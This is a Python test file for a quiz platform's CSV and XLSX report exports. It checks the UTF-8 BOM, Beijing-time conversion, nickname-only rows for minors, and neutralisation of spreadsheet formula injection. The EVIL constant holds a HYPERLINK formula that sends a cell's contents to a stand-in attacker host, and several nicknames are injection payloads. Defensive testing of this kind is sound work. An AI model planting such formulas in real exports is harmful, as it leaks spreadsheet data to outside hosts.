"""Exports for 上级检查: one row per person (or per group), UTF-8 BOM, Beijing time, and formula
injection neutralised in both CSV and XLSX; minors appear by nickname only."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from tests.factories import UserFactory
from tests.helpers import csrf_token, make_group, sign_in
from tests.records.builders import finished
from tests.records.builders import row as read_row
from tests.reports.builders import add_rows, at, play, play_as_staff, update

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我领奖")'


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.data.startswith(b"\xef\xbb\xbf"), "CSV must start with a UTF-8 BOM for Excel"
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


def _xlsx(response) -> list[list[object]]:
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(response.data)).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
    return [[c.value for c in row] for row in sheet.iter_rows()]


@pytest.fixture()
def school(app, client):
    made = make_group(app, name="初三（2）班", size=40)
    code, quiz = made["join_code"], made["quiz_id"]
    evil = play(app, client, code, quiz, EVIL[:20], right=15)  # nicknames are at most 20 characters
    plain = play(app, client, code, quiz, "+小红", right=6)
    play(app, client, code, quiz, "@小刚", right=1, answer=1, finish=False)
    from app.records.models import Certificate, Pledge

    add_rows(app, Certificate(code="K7M2Q9XA", attempt_id=evil.attempt_id, holder=EVIL[:20], unit="城关中学 初三（2）班",
                              quiz_title="学生·反诈主题班会", score=15, total=15, issued_at=at("2024-03-01 02:30")))
    members = _member_keys(app, [evil.attempt_id, plain.attempt_id])
    add_rows(app,
             Pledge(participant_id=members[0][1], attempt_id=evil.attempt_id, group_id=made["group_id"],
                    member_key=members[0][0], signer="-1+1", signed_at=at("2024-03-01 02:40")),
             Pledge(participant_id=members[1][1], attempt_id=plain.attempt_id, group_id=made["group_id"],
                    member_key=members[1][0], signer="", signature_svg_path="M1 1 L5 5",
                    signed_at=at("2024-03-01 16:05")))
    teacher = UserFactory(role="teacher")
    update(app, "Group", made["group_id"], teacher_id=teacher.id, pledges=2)
    sign_in(client, teacher)
    return {**made, "evil": evil, "plain": plain}


def _member_keys(app, attempt_ids):
    from app.extensions import db
    from app.quiz.models import Attempt

    with app.app_context():
        try:
            return [(a.member_key, a.participant_id) for a in (db.session.get(Attempt, i) for i in attempt_ids)]
        finally:
            db.session.remove()


def test_school_csv_is_nicknames_only_with_bom_and_inert_formulas(app, client, school):
    rows = _csv(client.get(f"/reports/groups/{school['group_id']}/export.csv"))
    header, *body = rows
    assert header == ["昵称", "得分", "总题数", "得分率（%）", "是否及格", "完成时间（北京时间）", "已签承诺书", "证书编号"]
    assert not {"姓名", "工号", "科室"} & set(header), "minors never get a name column"
    assert body[0] == ["'" + EVIL[:20], "15", "15", "100", "是", body[0][5], "是", "K7M2Q9XA"]
    assert body[1][:5] == ["'+小红", "6", "15", "40", "否"] and body[1][6] == "是"
    assert body[2] == ["'@小刚", "", "", "", "未完成", "", "否", ""]
    assert len(body) == 3
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_school_xlsx_has_the_same_rows_as_text(app, client, school):
    rows = _xlsx(client.get(f"/reports/groups/{school['group_id']}/export.xlsx"))
    assert rows[0][0] == "昵称" and "姓名" not in rows[0]
    assert rows[1][0] == "'" + EVIL[:20] and rows[1][1] == 15 and rows[1][7] == "K7M2Q9XA"
    assert rows[2][0] == "'+小红" and rows[3][0] == "'@小刚" and rows[3][4] == "未完成"


def test_pledge_list_csv(app, client, school):
    rows = _csv(client.get(f"/reports/groups/{school['group_id']}/pledges.csv"))
    assert rows == [
        ["签名（昵称）", "签署时间（北京时间）", "签名方式", "签署人身份"],
        ["'-1+1", "2024-03-01 10:40", "输入姓名", "本人"],  # 02:40 UTC is 10:40 in Beijing
        ["'+小红（手写签名）", "2024-03-02 00:05", "手写签名", "本人"],  # 16:05 UTC is past midnight in Beijing
    ]
    response = client.get(f"/reports/groups/{school['group_id']}/pledges.csv")
    assert "attachment" in response.headers["Content-Disposition"]
    assert "filename*=UTF-8''" in response.headers["Content-Disposition"]


def test_a_drawn_signature_alone_is_listed_under_the_signers_nickname(app, client):
    from app.records.models import Pledge
    from app.timezones import to_local

    made = make_group(app, name="初二（1）班")
    attempt_id, _ = finished(app, client, made["quiz_id"], "小刚", made["join_code"])
    page = client.get(f"/a/{attempt_id}/pledge")
    signed = client.post(f"/a/{attempt_id}/pledge",
                         data={"csrf_token": csrf_token(page.text), "signer": "", "signature": "M 1 1 L 50 50"})
    assert signed.status_code == 303
    pledge = read_row(app, Pledge, Pledge.attempt_id == attempt_id)
    assert pledge.signer == "" and pledge.signature_svg_path  # drawn only: no typed name stored
    teacher = UserFactory(role="teacher")
    update(app, "Group", made["group_id"], teacher_id=teacher.id)
    staff = app.test_client()
    sign_in(staff, teacher)
    rows = _csv(staff.get(f"/reports/groups/{made['group_id']}/pledges.csv"))
    with app.app_context():
        when = to_local(pledge.signed_at).strftime("%Y-%m-%d %H:%M")
    assert rows == [["签名（昵称）", "签署时间（北京时间）", "签名方式", "签署人身份"],
                    ["小刚（手写签名）", when, "手写签名", "本人"]]


def test_certificates_sheet_lists_every_certificate(app, client, school):
    page = client.get(f"/reports/groups/{school['group_id']}/certificates")
    assert page.status_code == 200
    assert "K7M2Q9XA" in page.text and "学生·反诈主题班会" in page.text and "15 / 15" in page.text
    assert "2024-03-01" in page.text and "/v/K7M2Q9XA" in page.text
    assert "持证人" not in page.text  # minors: the column says 昵称


def test_print_page_has_figures_weakest_and_pending(app, client, school):
    page = client.get(f"/reports/groups/{school['group_id']}/print")
    assert page.status_code == 200
    assert "本班最薄弱：" in page.text and "@小刚" in page.text and "关键数字" in page.text
    assert "reports.css" in page.text and 'class="no-print' in page.text


def test_roster_export_has_name_columns_and_everyone_on_the_roster(app, client):
    from app.groups.models import RosterEntry

    made = make_group(app, name="放射科", size=3, kind="hospital", org_name="县人民医院")
    update(app, "Group", made["group_id"], roster_required=True)
    add_rows(app, RosterEntry(group_id=made["group_id"], name="=王丽", staff_no="H001", department="放射科"),
             RosterEntry(group_id=made["group_id"], name="李强", staff_no="H002", department="放射科"),
             RosterEntry(group_id=made["group_id"], name="赵敏", staff_no="H003", department="-急诊"))
    play_as_staff(app, client, made["join_code"], made["quiz_id"], "H001", "=王丽", right=16)
    organiser = UserFactory(role="organiser", organisation_id=made["org_id"])
    sign_in(client, organiser)
    rows = _csv(client.get(f"/reports/groups/{made['group_id']}/export.csv"))
    assert rows[0][:3] == ["姓名", "工号", "科室"]
    assert rows[1][:8] == ["'=王丽", "H001", "放射科", "16", "20", "80", "是", rows[1][7]]
    # Then everyone on the roster without a counted result, by department and staff number.
    assert rows[2] == ["赵敏", "H003", "'-急诊", "", "", "", "未完成", "", "否", ""]
    assert rows[3] == ["李强", "H002", "放射科", "", "", "", "未完成", "", "否", ""]
    assert len(rows) == 4


def test_finished_time_is_beijing_time(app, client):
    from app.groups.models import BoardEntry

    made = make_group(app, kind="community", name="幸福里", size=5)
    add_rows(app, BoardEntry(group_id=made["group_id"], scope=0, member_key="p:1", nickname="张奶奶", counted=True,
                             score=6, total=8, permille=750, seconds=300, finished_at=at("2024-05-01 23:30")))
    update(app, "GroupStats", (made["group_id"], 0), participants=1, permille_sum=750)
    admin = UserFactory(role="admin")
    sign_in(client, admin)
    rows = _csv(client.get(f"/reports/groups/{made['group_id']}/export.csv"))
    # No attempt behind this row: the pass mark is the round's quiz (elder-listen, 60 %).
    assert rows[1] == ["张奶奶", "6", "8", "75", "是", "2024-05-02 07:30", "否", ""]  # 23:30 UTC -> 07:30 next day


def test_organisation_export_one_row_per_group_and_totals(app, client):
    a = make_group(app, name="=初一（1）班", size=10)
    b = make_group(app, name="初一（2）班", size=4, org_id=a["org_id"])
    make_group(app, name="初一（3）班", size=20, org_id=a["org_id"])
    update(app, "GroupStats", (a["group_id"], 0), participants=5, permille_sum=4000, last_counted_at=at("2024-03-01 02:00"))
    update(app, "GroupStats", (b["group_id"], 0), participants=4, permille_sum=2400, last_counted_at=at("2024-03-01 03:00"))
    update(app, "Group", a["group_id"], pledges=5, families=3)
    update(app, "Group", b["group_id"], pledges=1, families=0)
    organiser = UserFactory(role="organiser", organisation_id=a["org_id"])
    sign_in(client, organiser)
    rows = _csv(client.get(f"/reports/organisations/{a['org_id']}/export.csv"))
    assert rows[0] == ["名次", "班级", "应到人数", "参与人数", "参与率（%）", "平均分（%）", "完成时间（北京时间）",
                       "承诺书签署数", "签署率（%）", "家庭参与数"]
    # 初一（2）班: 4/4 = 100 % beats 初一（1）班: 5/10 = 50 %, whatever the sizes.
    assert rows[1] == ["1", "初一（2）班", "4", "4", "100", "60", "2024-03-01 11:00", "1", "25", "0"]
    assert rows[2] == ["2", "'=初一（1）班", "10", "5", "50", "80", "2024-03-01 10:00", "5", "50", "3"]
    assert rows[3][:4] == ["3", "初一（3）班", "20", "0"]
    assert rows[4] == ["合计", "3 个班级", "34", "9", "26", "71", "2024-03-01 11:00", "6", "18", "3"]
    book = _xlsx(client.get(f"/reports/organisations/{a['org_id']}/export.xlsx"))
    assert book[2][1] == "'=初一（1）班" and book[4][0] == "合计"
    page = client.get(f"/reports/organisations/{a['org_id']}")
    assert page.status_code == 200 and "第 1 名" in page.text and "26%" in page.text


def test_neutralise_helper():
    from app.reports.exports import neutralise

    for evil in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\0x"):
        assert neutralise(evil) == "'" + evil
    assert neutralise("小明") == "小明" and neutralise(-3) == -3 and neutralise(None) is None
